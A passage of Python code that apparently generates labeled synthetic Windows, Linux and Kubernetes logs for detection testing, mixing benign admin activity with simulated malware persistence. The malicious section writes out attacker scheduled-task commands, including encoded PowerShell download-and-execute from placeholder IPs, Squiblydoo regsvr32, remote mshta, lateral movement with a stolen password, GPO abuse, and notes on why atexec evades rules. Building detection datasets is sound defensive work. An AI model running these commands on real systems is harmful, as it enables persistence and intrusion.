    emit(schtasks(host, work_time(day), SYSTEM, cmd, CMD, parent_cmd), st)


def b_wau(host, day, runs):
    """Winget-AutoUpdate (Intune Win32 app) registers its task with Register-ScheduledTask; it runs via wscript."""
    st = benign("deploy", "Intune deploys Winget-AutoUpdate; it registers \\WAU\\Winget-AutoUpdate (wscript Invisible.vbs)")
    t = work_time(day)
    args = ('"C:\\ProgramData\\Winget-AutoUpdate\\Invisible.vbs" "powershell.exe -NoProfile -ExecutionPolicy Bypass '
            '-File """C:\\ProgramData\\Winget-AutoUpdate\\winget-upgrade.ps1""""')
    content = task_xml(t, "Romanitho/Winget-AutoUpdate", "\\WAU\\Winget-AutoUpdate",
                       [trig_daily(boundary(t, 6, 0)), trig_logon()], "wscript.exe", args, user_id="S-1-5-18",
                       run_level="HighestAvailable",
                       description="Winget-AutoUpdate: update apps with winget every day")
    emit(w4698(host, t, machine(host), "\\WAU\\Winget-AutoUpdate", content), st)
    st_run = benign("deploy", "Winget-AutoUpdate daily run (task starts wscript.exe Invisible.vbs)")
    for d in runs:
        emit(w129(host, at(d, 6, rng.randrange(0, 20)), "\\WAU\\Winget-AutoUpdate", "C:\\Windows\\System32\\wscript.exe"),
             st_run)


GPO_WKS = "{6F2B8E14-3C7A-4D95-B0E1-9A4C2D7F5E38}"
GPO_CTX = "{B3D91A7E-5F04-4C62-8E2D-71A6C9F0B4D1}"


def sysvol_rel(gpo):
    return "%s\\Policies\\%s\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml" % (DOMAIN, gpo)


WRITE_ACCESS = "%%1537 %%1538 %%1541 %%4416 %%4417 %%4418 %%4419 %%4420 %%4423 %%4424"


def b_gpo_edit_dc(dc, day, admin, gpo):
    st = benign("gpo", "%s edits a GPP scheduled task in GPMC on the DC console (SYSVOL write from ::1)" % admin)
    emit(w5145(dc, work_time(day), duser(admin), "::1", "\\\\*\\SYSVOL", sysvol_rel(gpo), WRITE_ACCESS), st)


def b_gpo_edit_paw(dc, day, admin, gpo):
    st = benign("gpo_remote", "%s edits a GPP scheduled task in GPMC on a PAW (SYSVOL write from the PAW)" % admin)
    paw = rng.choice(PAW)
    emit(w5145(dc, work_time(day), duser(admin), HOSTS[paw]["ip"], "\\\\*\\SYSVOL", sysvol_rel(gpo), WRITE_ACCESS), st)


def b_gpp_lockscreen(host, day):
    """GPP immediate task (workstation GPO) runs a lock-screen script from ProgramData, then deletes itself."""
    st = benign("gpo", "GPP immediate task 'KBH Lock Screen' applied by Group Policy (registered and removed by SYSTEM)")
    t = at(day, rng.randrange(7, 10), rng.randrange(60))
    content = task_xml(t, "KBH\\kbadm-lnguyen", "\\KBH Lock Screen", [trig_immediate(t)], "powershell.exe",
                       '-NoProfile -ExecutionPolicy Bypass -File "C:\\ProgramData\\KBH\\LockScreen\\Set-LockScreen.ps1"',
                       user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable",
                       delete_expired=True)
    emit(w4698(host, t, machine(host), "\\KBH Lock Screen", content), st)
    emit(w4699(host, t + timedelta(seconds=rng.randrange(4, 40)), machine(host), "\\KBH Lock Screen"), st)


def b_svchost_msiexec_repair(host, day):
    st = benign("admin", "weekly admin task 'KBH\\PACS Viewer Self-Repair' starts msiexec /fa (Task Scheduler child)")
    emit(task_run(host, at(day, 5, rng.randrange(60)), SYSTEM, MSIEXEC,
                  "C:\\Windows\\system32\\msiexec.exe /fa {4E8C2B71-9A3D-4F05-B6E1-2D7C9A0F3B58} /qn /norestart"), st)


def b_vda_desktop_cleanup_run(host, day):
    st = benign("admin", "admin task 'KBH\\CTX Desktop Cleanup' runs cscript Clean-Desktops.vbs on the VDA")
    emit(w129(host, at(day, 3, rng.randrange(60)), "\\KBH\\CTX Desktop Cleanup", "C:\\Windows\\System32\\cscript.exe"), st)


# ----------------------------------------------------------------------------------------------
# Benign Windows stories: admin work (kbadm-* accounts, PAWs)
# ----------------------------------------------------------------------------------------------

PAW_JOBS = {
    "kb-ehr-app01": ("KBH\\EHR Interface Log Archive", "C:\\KBH\\Scripts\\Archive-InterfaceLogs.cmd", "/SC DAILY /ST 23:30"),
    "kb-ehr-app02": ("KBH\\EHR Interface Log Archive", "C:\\KBH\\Scripts\\Archive-InterfaceLogs.cmd", "/SC DAILY /ST 23:30"),
    "kb-sql01": ("KBH\\SQL Log Shipping Check", "C:\\KBH\\Scripts\\Check-LogShipping.cmd", "/SC HOURLY"),
    "kb-pacs01": ("KBH\\PACS Cache Report", "C:\\KBH\\Scripts\\Report-PacsCache.cmd", "/SC DAILY /ST 06:45"),
    "kb-ctx-vda02": ("KBH\\CTX Print Spooler Check", "C:\\KBH\\Scripts\\Check-Spooler.cmd", "/SC HOURLY"),
    "kb-fs01": ("KBH\\Home Drive Quota Report", "C:\\KBH\\Scripts\\Report-Quota.cmd", "/SC WEEKLY /D MON /ST 06:00"),
}


def b_paw_remote_create(target, day, admin):
    st = benign("admin", "%s creates a maintenance task on %s from a PAW (schtasks /s, SYSTEM)" % (admin, target))
    tn, tr, sc = PAW_JOBS[target]
    paw = rng.choice(PAW)
    cmd = 'schtasks.exe /Create /S %s /TN "%s" /TR "%s" %s /RU SYSTEM /F' % (target, tn, tr, sc)
    emit(schtasks(paw, work_time(day), duser(admin), cmd, PS, '"%s" ' % PS), st)
    return paw


def b_paw_remote_run(target, day, admin):
    st = benign("admin", "%s starts a maintenance task on %s from a PAW to test it (schtasks /run /s)" % (admin, target))
    tn = PAW_JOBS[target][0]
    emit(schtasks(rng.choice(PAW), work_time(day), duser(admin), 'schtasks.exe /Run /S %s /TN "%s"' % (target, tn),
                  PS, '"%s" ' % PS), st)


def b_admin_console(host, day, admin, cmd, scenario, parent=CMD):
    st = benign("admin", scenario)
    emit(schtasks(host, work_time(day), duser(admin), cmd, parent, '"%s" ' % parent if parent == PS else
                  '"C:\\Windows\\system32\\cmd.exe" '), st)


def b_forfiles_runs(host, days):
    st = benign("admin", "admin task 'KBH\\EHR Log Cleanup' runs forfiles (Task Scheduler child)")
    for d in days:
        emit(task_run(host, at(d, 2, 0, rng.randrange(3, 20)), SYSTEM, "C:\\Windows\\System32\\forfiles.exe",
                      'forfiles /p D:\\EHR\\Logs /s /m *.log /d -30 /c "cmd /c del @path"'), st)


# ----------------------------------------------------------------------------------------------
# Benign Linux stories
# ----------------------------------------------------------------------------------------------

UU = ("/usr/bin/python3.12", "/usr/bin/python3 /usr/bin/unattended-upgrade")
UU_DEB = ("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/unattended-upgrade")
DEB_PKGS = {
    "ubuntu": [("man-db_2.12.0-4build2_amd64.deb", "/etc/cron.daily/man-db"),
               ("sysstat_12.6.1-2ubuntu0.1_amd64.deb", "/etc/cron.d/sysstat"),
               ("e2fsprogs_1.47.0-2.4~exp1ubuntu4.1_amd64.deb", "/etc/cron.d/e2scrub_all"),
               ("apt_2.8.3_amd64.deb", "/etc/cron.daily/apt-compat"),
               ("logrotate_3.21.0-2build1_amd64.deb", "/etc/cron.daily/logrotate")],
    "debian": [("exim4-base_4.96-15+deb12u7_amd64.deb", "/etc/cron.daily/exim4-base"),
               ("dpkg_1.21.22_amd64.deb", "/etc/cron.daily/dpkg"),
               ("man-db_2.11.2-2_amd64.deb", "/etc/cron.daily/man-db"),
               ("logrotate_3.21.0-1_amd64.deb", "/etc/cron.daily/logrotate")],
}


def b_unattended_cron(host, day, pkg, path):
    st = benign("pkg", "unattended-upgrades: dpkg unpacks %s (writes %s)" % (pkg.split("_")[0], path))
    py = UU if HOSTS[host]["family"] == "ubuntu" else UU_DEB
    emit(lfile(host, at(day, 6, rng.randrange(10, 50)), "root", path, "/usr/bin/dpkg",
               "/usr/bin/dpkg --status-fd 10 --no-triggers --unpack --auto-deconfigure --recursive "
               "/tmp/apt-dpkg-install-%s" % det_hex("apt", host, pkg, n=6), py[0], py[1]), st)


def b_needrestart(host, day, units):
    st = benign("pkg", "needrestart restarts services whose libraries unattended-upgrades replaced")
    emit(lproc(host, at(day, 6, rng.randrange(50, 59)), "root", "/usr/bin/systemctl",
               "/usr/bin/systemctl restart %s" % " ".join(units), "/usr/bin/perl",
               "/usr/bin/perl /usr/sbin/needrestart -m a -r a"), st)


def b_certbot_pkg(host, day):
    st = benign("pkg", "apt installs certbot: /etc/cron.d/certbot, certbot.service and its timer started")
    t = work_time(day)
    apt = ("/usr/bin/apt-get", "apt-get install -y certbot python3-certbot-nginx")
    emit(lfile(host, t, "root", "/etc/cron.d/certbot", "/usr/bin/dpkg",
               "/usr/bin/dpkg --status-fd 23 --configure --pending", apt[0], apt[1]), st)
    emit(lfile(host, later(t), "root", "/usr/lib/systemd/system/certbot.service", "/usr/bin/dpkg",
               "/usr/bin/dpkg --status-fd 23 --configure --pending", apt[0], apt[1]), st)
    emit(lproc(host, later(t, 900, 3000), "root", "/usr/bin/systemctl", "systemctl --system start certbot.timer",
               "/usr/bin/deb-systemd-invoke", "/usr/bin/perl /usr/bin/deb-systemd-invoke start certbot.timer"), st)


def b_certbot_renew(host, day):
    st = benign("auto", "certbot renew deploy hook reloads nginx after a certificate renewal")
    emit(lproc(host, at(day, rng.choice([0, 12]), rng.randrange(60)), "root", "/usr/bin/systemctl",
               "systemctl reload nginx", "/usr/bin/python3.12",
               "/usr/bin/python3 /usr/bin/certbot -q renew --no-random-sleep-on-renew"), st)


def b_dnf_units(host, day, path):
    st = benign("pkg", "dnf-automatic security update installs %s" % path.split("/")[-1])
    emit(lfile(host, at(day, 6, rng.randrange(0, 59)), "root", path, "/usr/bin/python3.9",
               "/usr/bin/python3 /usr/bin/dnf-automatic /etc/dnf/automatic.conf --timer", "/usr/lib/systemd/systemd",
               "/usr/lib/systemd/systemd --switched-root --system --deserialize 31"), st)


PUPPET = ("/opt/puppetlabs/puppet/bin/ruby", "/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent "
          "--onetime --no-daemonize --verbose --no-splay")


def b_puppet_cron(host, day, job):
    """Puppet's cron type lists and rewrites root's crontab through a temp file (crontab -u root /tmp/...)."""
    st = benign("cm", "Puppet agent manages root's crontab entry '%s' (crontab -l, then crontab -u root /tmp/puppet_...)" % job)
    t = at(day, rng.randrange(0, 24), rng.choice([4, 34]))
    emit(lproc(host, t, "root", "/usr/bin/crontab", "/usr/bin/crontab -l -u root", PUPPET[0], PUPPET[1]), st)
    tmp = "/tmp/puppet_suidmanager%s-%d-%s" % ((START_DAY + timedelta(days=day)).strftime("%Y%m%d"),
                                                rng.randrange(2000, 60000), det_hex("pt", host, job, n=7))
    t = later(t, 200, 900)
    emit(lproc(host, t, "root", "/usr/bin/crontab", "/usr/bin/crontab -u root %s" % tmp, PUPPET[0], PUPPET[1]), st)
    emit(lfile(host, later(t, 5, 50), "root", "/var/spool/cron/root", "/usr/bin/crontab",
               "/usr/bin/crontab -u root %s" % tmp, PUPPET[0], PUPPET[1]), st)
    emit(lsys(host, later(t, 5, 50), "root", "(root) REPLACE (root)"), st)


def b_puppet_file(host, day, path, scenario):
    st = benign("cm", scenario)
    emit(lfile(host, at(day, rng.randrange(0, 24), rng.choice([4, 34])), "root", path, PUPPET[0], PUPPET[1],
               "/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd --switched-root --system --deserialize 31"), st)


def b_puppet_service(host, day, unit):
    st = benign("cm", "Puppet agent installs and enables the %s service" % unit)
    t = at(day, rng.randrange(0, 24), rng.choice([4, 34]))
    emit(lfile(host, t, "root", "/etc/systemd/system/%s.service" % unit, PUPPET[0], PUPPET[1],
               "/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd --switched-root --system --deserialize 31"), st)
    for c in ("/usr/bin/systemctl daemon-reload", "/usr/bin/systemctl enable -- %s" % unit,
              "/usr/bin/systemctl start -- %s" % unit):
        t = later(t, 300, 1500)
        emit(lproc(host, t, "root", "/usr/bin/systemctl", c, PUPPET[0], PUPPET[1]), st)


def ansible_py(host, module):
    tmp = "/root/.ansible/tmp/ansible-tmp-%d.%d-%d-%d" % (1809000000 + rng.randrange(2000000), rng.randrange(10 ** 6),
                                                         rng.randrange(1000, 99999), rng.randrange(10 ** 14, 10 ** 15))
    py = "/usr/bin/python3.12" if HOSTS[host]["family"] == "ubuntu" else "/usr/bin/python3.11"
    return py, "/usr/bin/python3 %s/AnsiballZ_%s.py" % (tmp, module)


def b_ansible_file(host, day, path, module, scenario):
    st = benign("cm", scenario)
    py = ansible_py(host, module)
    emit(lfile(host, at(day, 10, rng.randrange(60)), "root", path, py[0], py[1], "/bin/sh",
               "/bin/sh -c '/usr/bin/python3 %s && sleep 0'" % py[1].split(" ")[1]), st)


def b_ansible_restart(host, day, unit):
    st = benign("cm", "AWX job template restarts %s after a config change (ansible systemd module)" % unit)
    py = ansible_py(host, "systemd")
    emit(lproc(host, at(day, 10, rng.randrange(60)), "root", "/usr/bin/systemctl", "/usr/bin/systemctl restart %s" % unit,
               py[0], py[1]), st)


def sudo_parent(admin, command):
    return "/usr/bin/sudo", "sudo %s" % command


def b_admin_crontab_e(host, day, admin):
    st = benign("admin", "%s edits root's crontab with sudo crontab -e" % admin)
    t = work_time(day)
    p = sudo_parent(admin, "crontab -e")
    emit(lproc(host, t, "root", "/usr/bin/crontab", "crontab -e", p[0], p[1]), st)
    emit(lsys(host, t + timedelta(seconds=rng.randrange(30, 240)), "root", "(root) REPLACE (root)"), st)


def b_admin_vim_cron(host, day, admin, name):
    st = benign("admin", "%s edits /etc/cron.d/%s with vim" % (admin, name))
    t = work_time(day)
    p = sudo_parent(admin, "vim /etc/cron.d/%s" % name)
    emit(lproc(host, t, "root", "/usr/bin/vim.basic", "vim /etc/cron.d/%s" % name, p[0], p[1]), st)
    emit(lfile(host, t + timedelta(seconds=rng.randrange(20, 200)), "root", "/etc/cron.d/%s" % name,
               "/usr/bin/vim.basic", "vim /etc/cron.d/%s" % name, p[0], p[1]), st)


def b_admin_echo_crontab(host, day, admin, line):
    st = benign("admin", "%s appends a maintenance line to /etc/crontab (sudo sh -c echo >>)" % admin)
    t = work_time(day)
    c = "sh -c echo \"%s\" >> /etc/crontab" % line
    p = sudo_parent(admin, c)
    emit(lproc(host, t, "root", "/usr/bin/sh", c, p[0], p[1]), st)
    emit(lfile(host, later(t, 2, 30), "root", "/etc/crontab", "/usr/bin/sh", c, p[0], p[1]), st)


def b_admin_systemctl(host, day, admin, verb, unit):
    st = benign("admin", "%s runs systemctl %s %s" % (admin, verb, unit))
    c = "systemctl %s %s" % (verb, unit)
    p = sudo_parent(admin, c)
    emit(lproc(host, work_time(day), "root", "/usr/bin/systemctl", c, p[0], p[1]), st)


def b_admin_unit_timer(host, day, admin, unit):
    st = benign("admin", "%s installs the %s service and timer by hand" % (admin, unit))
    t = work_time(day)
    p = sudo_parent(admin, "cp %s.service %s.timer /etc/systemd/system/" % (unit, unit))
    emit(lfile(host, t, "root", "/etc/systemd/system/%s.service" % unit, "/usr/bin/cp",
               "cp %s.service %s.timer /etc/systemd/system/" % (unit, unit), p[0], p[1]), st)
    p = sudo_parent(admin, "systemctl enable --now %s.timer" % unit)
    emit(lproc(host, later(t, 5000, 40000), "root", "/usr/bin/systemctl", "systemctl enable --now %s.timer" % unit,
               p[0], p[1]), st)


def b_admin_at(host, day, admin, job):
    st = benign("admin", "%s schedules a one-off maintenance job with at 22:00" % admin)
    t = work_time(day)
    emit(lproc(host, t, admin, "/usr/bin/at", "at 22:00", "/usr/bin/bash", "-bash"), st)
    emit(lproc(host, at(day, 22, 0, rng.randrange(0, 3)), admin, "/usr/bin/sh", "sh", "/usr/sbin/atd", "/usr/sbin/atd -f"),
         benign("admin", "atd runs %s's one-off job (%s)" % (admin, job)))


def b_admin_at_allow(host, day, admin):
    st = benign("admin", "%s adds the mirth service account to /etc/at.allow" % admin)
    p = sudo_parent(admin, "vim /etc/at.allow")
    emit(lfile(host, work_time(day), "root", "/etc/at.allow", "/usr/bin/vim", "vim /etc/at.allow", p[0], p[1]), st)


def b_zabbix_crontab_list(host, day):
    st = benign("auto", "Zabbix agent item lists root's crontab (sudo -n crontab -l -u root) for the config inventory")
    emit(lproc(host, at(day, rng.randrange(24), rng.randrange(60)), "root", "/usr/bin/crontab",
               "/usr/bin/crontab -l -u root", "/usr/bin/sudo", "sudo -n /usr/bin/crontab -l -u root"), st)


# ----------------------------------------------------------------------------------------------
# Benign Kubernetes stories (raw audit log of the RKE2 cluster)
# ----------------------------------------------------------------------------------------------

KUBECTL_UA = "kubectl/v1.31.4+rke2r1 (linux/amd64) kubernetes/a78aa47"
ARGO_UA = "argocd-controller/v2.14.2+8c3b4f1 (linux/amd64) kubernetes/$Format"
HELM_UA = "Helm/3.16.3"
CJ_CONTROLLER = "system:serviceaccount:kube-system:cronjob-controller"
CJ_UA = "kube-controller-manager/v1.31.4+rke2r1 (linux/amd64) kubernetes/a78aa47/system:serviceaccount:kube-system:cronjob-controller"
TEKTON_SA = "system:serviceaccount:tekton-ci:pipeline-deployer"
ARGO_SA = "system:serviceaccount:argocd:argocd-application-controller"
JENKINS_SA = "system:serviceaccount:jenkins:jenkins-deployer"


def sa_groups(ns):
    return ["system:serviceaccounts", "system:serviceaccounts:%s" % ns, "system:authenticated"]


POD_NET = "10.42.%d.%d"

CRONJOBS = [  # (ns, name, schedule, image, command, service account)
    ("ehr-integration", "hl7-archive-rotate", "30 1 * * *", "harbor.%s/ehr/hl7-archiver:3.4.%%d" % DOMAIN,
     ["/app/hl7-archiver", "--rotate", "--keep-days=30"], "hl7-archiver"),
    ("portal", "session-purge", "*/20 * * * *", "harbor.%s/portal/session-tools:1.8.%%d" % DOMAIN,
     ["python", "-m", "session_tools.purge"], "portal-batch"),
    ("analytics", "bed-occupancy-rollup", "5 * * * *", "harbor.%s/analytics/rollups:2.11.%%d" % DOMAIN,
     ["/usr/local/bin/rollup", "bed-occupancy"], "analytics-batch"),
    ("platform", "etcd-snapshot-verify", "0 4 * * *", "harbor.%s/platform/etcd-verify:0.9.%%d" % DOMAIN,
     ["/verify.sh", "--bucket", "s3://kbh-rke2-snapshots"], "etcd-verify"),
    ("pharmacy", "formulary-sync", "15 2 * * 1-5", "harbor.%s/pharmacy/formulary-sync:5.0.%%d" % DOMAIN,
     ["java", "-jar", "/opt/formulary-sync.jar", "--mode=nightly"], "formulary-sync"),
    ("monitoring", "cert-expiry-exporter", "0 */6 * * *", "harbor.%s/platform/cert-expiry:1.2.%%d" % DOMAIN,
     ["/cert-expiry", "--push-gateway", "http://pushgateway.monitoring:9091"], "cert-expiry"),
]


def b_k8s_cronjob(day, idx, via, version, verb="create"):
    ns, name, sched, image, command, sa = CRONJOBS[idx]
    t = at(day, rng.randrange(8, 18), rng.randrange(60))
    if via == "tekton":
        user, groups, ip, ua = TEKTON_SA, sa_groups("tekton-ci"), POD_NET % (rng.randrange(1, 6), rng.randrange(2, 250)), KUBECTL_UA
        scen = "Tekton pipeline applies CronJob %s/%s" % (ns, name)
    elif via == "argocd":
        user, groups, ip, ua = ARGO_SA, sa_groups("argocd"), POD_NET % (0, 17), ARGO_UA
        scen = "Argo CD sync creates CronJob %s/%s" % (ns, name)
    elif via == "jenkins":
        user, groups, ip, ua = JENKINS_SA, sa_groups("jenkins"), HOSTS["kb-lx-jenkins01"]["ip"], KUBECTL_UA
        scen = "Jenkins release job applies CronJob %s/%s" % (ns, name)
    else:
        user, groups, ip, ua = "oidc:kbadm-ocarter@%s" % DOMAIN, ["oidc:kbh-platform-admins", "system:authenticated"], \
            HOSTS["kb-paw01"]["ip"], HELM_UA
        scen = "platform admin installs Helm chart with CronJob %s/%s from a PAW" % (ns, name)
    if verb == "patch":
        scen = scen.replace("creates", "updates").replace("applies", "re-applies")
    emit(k8s(t, user, groups, ip, ua, ns, name, schedule=sched, image=image % version, command=command, sa=sa,
             labels={"app.kubernetes.io/managed-by": {"argocd": "argocd", "helm": "Helm"}.get(via, via)},
             verb=verb), benign("k8s", scen))


def b_k8s_job_from_cronjob(day, idx, version):
    ns, name, sched, image, command, sa = CRONJOBS[idx]
    t = at(day, rng.randrange(0, 24), 0, rng.randrange(0, 3))
    stamp = int((t - datetime(1970, 1, 1, tzinfo=UTC)).total_seconds() // 60)
    emit(k8s(t, CJ_CONTROLLER, sa_groups("kube-system"), "127.0.0.1", CJ_UA, ns, "%s-%d" % (name, stamp), resource="jobs",
             image=image % version, command=command, sa=sa, owner=name),
         benign("k8s", "CronJob controller starts a Job of %s/%s" % (ns, name)))


# ----------------------------------------------------------------------------------------------
# Malicious stories (Windows)
# ----------------------------------------------------------------------------------------------

def m_asyncrat(host, day, name):
    """AsyncRAT install routine when the user is a local admin: cmd /c schtasks /create /f /sc onlogon /rl highest."""
    u = prim(host)
    st = bad("AsyncRAT (phishing ISO) persists with an onlogon /rl highest task to %%AppData%%\\%s.exe" % name)
    exe = "C:\\Users\\%s\\AppData\\Roaming\\%s.exe" % (u, name)
    inner = 'schtasks /create /f /sc onlogon /rl highest /tn "%s" /tr \'"%s"\' & exit' % (name, exe)
    emit(schtasks(host, work_time(day), duser(u), "schtasks  /create /f /sc onlogon /rl highest /tn \"%s\" /tr '\"%s\"' "
                  % (name, exe), CMD, '"C:\\Windows\\System32\\cmd.exe" /c %s' % inner), st)


def m_agenttesla(host, day):
    """AgentTesla / FormBook loaders: schtasks /Create /TN "Updates\\<rnd>" /XML %TEMP%\\tmpXXXX.tmp."""
    u = prim(host)
    rnd = rand_word("at", host, n=9, upper_first=True)
    st = bad("AgentTesla-style loader registers Updates\\%s from a .tmp XML in %%TEMP%%" % rnd)
    me = "C:\\Users\\%s\\AppData\\Roaming\\%s.exe" % (u, rnd)
    tmp = "C:\\Users\\%s\\AppData\\Local\\Temp\\tmp%s.tmp" % (u, det_hex("tmp", host, n=4).upper())
    emit(schtasks(host, work_time(day), duser(u), '"C:\\Windows\\System32\\schtasks.exe" /Create /TN "Updates\\%s" '
                  '/XML "%s"' % (rnd, tmp), me, '"%s"' % me, integrity="Medium"), st)


def m_gootloader(host, day, runs):
    u = prim(host)
    folder = rand_word("gl", host, n=7, upper_first=True)
    js = "%s~1.JS" % rand_word("gjs", host, n=6).upper()
    tn = rng.choice(["Pharmacology Assessment", "Business Aviation", "Infrastructure Planning"])
    st = bad("Gootloader: SEO-poisoned 'enterprise agreement' download registers task '%s' running wscript %s" % (tn, js))
    t = work_time(day)
    content = task_xml(t, "%s\\%s" % (NETBIOS, u), "\\%s" % tn, [trig_logon("%s\\%s" % (NETBIOS, u))], "wscript",
                       js, user_id=usid(u), logon_type="InteractiveToken",
                       workdir="C:\\Users\\%s\\AppData\\Roaming\\%s" % (u, folder))
    emit(w4698(host, t, duser(u), "\\%s" % tn, content), st)
    for d in runs:
        emit(w129(host, at(d, 8, rng.randrange(0, 40)), "\\%s" % tn, "C:\\Windows\\System32\\wscript.exe"),
             bad("Gootloader task '%s' runs wscript at logon" % tn))


LOADER_URL = "http://198.51.100.62/c"


def m_loader_ws0115(host, day):
    u = prim(host)
    st = bad("IcedID-style loader (rundll32 from Users\\Public) adds an encoded PowerShell task and a DLL logon task")
    dll = "C:\\Users\\Public\\Libraries\\kbhrpt.dll"
    parent = "C:\\Windows\\System32\\rundll32.exe"
    pcmd = 'rundll32.exe %s,DllRegisterServer' % dll
    t = at(day, 11, 42)
    enc = ps_enc("IEX (New-Object Net.WebClient).DownloadString('%s')" % LOADER_URL)
    emit(schtasks(host, t, duser(u), 'schtasks /create /sc minute /mo 15 /tn "MicrosoftEdgeUpdateTaskUserCore" /tr '
                  '"powershell.exe -nop -w hidden -enc %s" /f' % enc, parent, pcmd, integrity="Medium"), st)
    emit(schtasks(host, later(t, 3000, 9000), duser(u), 'schtasks /create /tn "\\Microsoft\\Windows\\Shell\\'
                  'FamilySafetyRefresh" /tr "rundll32.exe %s,DllRegisterServer" /sc onlogon /f' % dll, parent, pcmd,
                  integrity="Medium"), st)


STOLEN_ADMIN = "kbadm-sfinch"
FOOTHOLD = "kbn-ws-0115"


def m_lateral_schtasks(target, day, hh, mm):
    st = bad("hands-on intrusion: stolen %s used from workstation %s to create a SYSTEM task on %s (Windows\\Temp payload)"
             % (STOLEN_ADMIN, FOOTHOLD, target))
    t = at(day, hh, mm)
    cmd = ('schtasks /create /s %s /u KBH\\%s /p "Summer2027!!" /tn "\\Microsoft\\Windows\\UpdateOrchestrator\\'
           'USO_UxBroker_Refresh" /tr "C:\\Windows\\Temp\\usobroker.exe" /sc once /st 00:00 /ru SYSTEM /f'
           % (target, STOLEN_ADMIN))
    emit(schtasks(FOOTHOLD, t, duser(prim(FOOTHOLD)), cmd, CMD, '"C:\\Windows\\system32\\cmd.exe"', integrity="Medium"), st)
    emit(schtasks(FOOTHOLD, t + timedelta(seconds=rng.randrange(20, 90)), duser(prim(FOOTHOLD)),
                  'schtasks /run /s %s /u KBH\\%s /p "Summer2027!!" /tn "\\Microsoft\\Windows\\UpdateOrchestrator\\'
                  'USO_UxBroker_Refresh"' % (target, STOLEN_ADMIN), CMD, '"C:\\Windows\\system32\\cmd.exe"',
                  integrity="Medium"), bad("hands-on intrusion: the attacker starts the planted task on %s at once" % target))


def m_empire(host, day):
    st = bad("PowerShell Empire persistence/elevated/schtasks module: Updater task reading HKLM:\\Software\\Microsoft\\Network")
    cmd = ('schtasks /Create /F /RU system /SC DAILY /ST 09:00 /TN Updater /TR "powershell.exe -NonI -W hidden -c '
           '\\"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\'
           'Network debug).debug)))\\""')
    emit(schtasks(host, at(day, 15, 7), duser(STOLEN_ADMIN), cmd, PS,
                  'powershell -noP -sta -w 1 -enc %s' % ps_enc("$s='198.51.100.77:443';$i='7a1c';sv ... ")), st)


def m_regsvr32(host, day):
    st = bad("Squiblydoo boot task: regsvr32 /i:http://203.0.113.77/s.sct scrobj.dll as SYSTEM on start-up")
    cmd = ('schtasks /create /ru SYSTEM /sc onstart /tn "WinDefendSvcCheck" /tr "regsvr32 /s /n /u '
           '/i:http://203.0.113.77/s.sct scrobj.dll" /f')
    emit(schtasks(host, at(day, 23, 12), duser(STOLEN_ADMIN), cmd, CMD, '"C:\\Windows\\system32\\cmd.exe"'), st)
    t = at(day + 1, 3, 14)
    st_run = bad("Squiblydoo boot task runs regsvr32 after the reboot")
    emit(task_run(host, t, SYSTEM, "C:\\Windows\\System32\\regsvr32.exe",
                  "regsvr32 /s /n /u /i:http://203.0.113.77/s.sct scrobj.dll"), st_run)
    emit(w129(host, later(t, 1, 20), "\\WinDefendSvcCheck", "C:\\Windows\\System32\\regsvr32.exe"), st_run)


def m_rundll32_programdata(host, day):
    st = bad("hourly SYSTEM task hidden under \\Microsoft\\Windows\\Maintenance runs rundll32 on a ProgramData DLL")
    cmd = ('schtasks /create /tn "\\Microsoft\\Windows\\Maintenance\\WinSAT Refresh" /tr "rundll32.exe '
           'C:\\ProgramData\\SoftwareDistribution\\wsat.dll,DllRegisterServer" /sc hourly /ru SYSTEM /f')
    emit(schtasks(host, at(day, 16, 41), duser(STOLEN_ADMIN), cmd, CMD, '"C:\\Windows\\system32\\cmd.exe"'), st)


ATEXEC_SRC = "kb-fs01"


def m_atexec(target, day, hh, commands):
    """Impacket atexec.py over SMB from the compromised file server: the task is created over RPC, run and
    deleted within seconds. Its 4698 (cmd.exe /C ... > %windir%\\Temp\\<name>.tmp) matches no enabled rule, and
    the 5145 on the atsvc pipe carries %%4417 where the Sigma rule looks for the rendered "WriteData": only the
    deletion (4699) is seen."""
    t = at(day, hh, rng.randrange(60))
    for c in commands:
        name = rand_word("atexec", target, c, n=8, upper_first=False)
        name = "".join(ch.upper() if i % 3 == 0 else ch for i, ch in enumerate(name))
        st = bad("Impacket atexec from %s runs '%s' on %s (task \\%s created and deleted)" % (ATEXEC_SRC, c, target, name))
        emit(w4699(target, t + timedelta(seconds=rng.randrange(3, 8)), duser(STOLEN_ADMIN), "\\%s" % name, remote=True), st)
        t += timedelta(seconds=rng.randrange(40, 200))


GPO_ABUSE_TASK = "\\Kestrel Bay Health Check"


def m_gpo_abuse(day, targets):
    st = bad("GPO abuse: %s's credentials used from %s to add an immediate task to the workstation GPO" % (STOLEN_ADMIN, ATEXEC_SRC))
    t = at(day, 22, 41)
    emit(w5145("kb-dc01", t, duser(STOLEN_ADMIN), HOSTS[ATEXEC_SRC]["ip"], "\\\\*\\SYSVOL", sysvol_rel(GPO_WKS),
               WRITE_ACCESS), st)
    st_apply = bad("GPO abuse: the immediate task lands on the workstation and copies a payload to Users\\Public")
    for i, h in enumerate(targets):
        tt = t + timedelta(minutes=rng.randrange(8, 95))
        content = task_xml(tt, "NT AUTHORITY\\SYSTEM", GPO_ABUSE_TASK, [trig_immediate(tt)], "cmd.exe",
                           "/c copy /y \\\\kb-fs01\\NETLOGON\\kbhsvc.exe C:\\Users\\Public\\kbhsvc.exe & "
                           "C:\\Users\\Public\\kbhsvc.exe -install",
                           user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable",
                           delete_expired=True)
        emit(w4698(h, tt, machine(h), GPO_ABUSE_TASK, content), st_apply)
        emit(w4699(h, tt + timedelta(seconds=rng.randrange(5, 60)), machine(h), GPO_ABUSE_TASK), st_apply)


def m_mshta(host, day, runs):
    u = prim(host)
    st = bad("HTA phishing: daily task runs mshta on a remote HTA under a OneDrive-looking name")
    emit(schtasks(host, work_time(day), duser(u), 'schtasks /create /tn "OneDrive Sync Health" /tr "mshta.exe '
                  'https://198.51.100.14/od/health.hta" /sc daily /st 09:05 /f', PS, '"%s" -ep bypass -w hidden' % PS,
                  integrity="Medium"), st)
    for d in runs:
        t = at(d, 9, 5, rng.randrange(0, 5))
